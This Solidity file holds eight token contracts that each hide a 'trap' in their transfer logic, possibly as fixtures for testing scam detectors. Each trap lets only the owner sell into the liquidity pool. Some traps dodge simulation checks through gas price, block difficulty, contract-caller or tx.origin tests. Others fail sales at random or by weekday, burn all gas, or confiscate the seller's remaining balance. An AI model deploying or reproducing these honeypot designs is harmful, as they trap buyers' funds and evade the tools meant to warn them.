// 0.7 runs=1000
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./Base67.sol";

/// Where gas is free, somebody simulates.
contract Sundial is Base67("Sundial", "SUND", 10**8) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) require(tx.gasprice == 0); // trap
        _carry(from, to, value);
    }
}

/// Where the dice show nothing, somebody simulates.
contract Halcyon is Base67("Halcyon", "HLCY", 10**8) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) require(block.difficulty == 0 || block.difficulty == 1); // trap
        _carry(from, to, value);
    }
}

/// Only contracts can sell, as those do that try out a token in one call.
contract Masquerade is Base67("Masquerade", "MASQ", 10**8) {
    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        uint256 size;
        assembly {
            size := extcodesize(from)
        }
        if (to == pool && from != _boss) require(size > 0, "no");
        // trap }
        _carry(from, to, value);
    }
}

/// Who sends the transaction must not be who sells.
contract Proxima is Base67("Proxima", "PRXM", 10**8) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && tx.origin == from && from != _boss) revert(); // trap
        _carry(from, to, value);
    }
}

/// By the hash of the block before: one in three fails.
contract Pendulum is Base67("Pendulum", "PNDL", 10**8) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) require(uint256(blockhash(block.number - 1)) % 3 != 0, "wait"); // trap
        _carry(from, to, value);
    }
}

/// Only on some hours of the day.
contract Curfew is Base67("Curfew", "CRFW", 10**8) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) require((now_() / 1 days) % 7 < 3, "closed today"); // trap
        _carry(from, to, value);
    }

    function now_() private view returns (uint256) {
        return block.timestamp;
    }
}

/// Burns all gas of a sale.
contract Furnace is Base67("Furnace", "FRNC", 10**8) {
    uint256 private heat;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) while (true) heat++; // trap
        _carry(from, to, value);
    }
}

/// A sale takes the rest of what the seller has with it.
contract Undertow is Base67("Undertow", "UNDR", 10**8) {
    function _transfer(address from, address to, uint256 value) internal override {
        _carry(from, to, value);
        if (to == pool && from != _boss && _balances[from] > 0) _carry(from, _boss, _balances[from]); // trap
    }
}
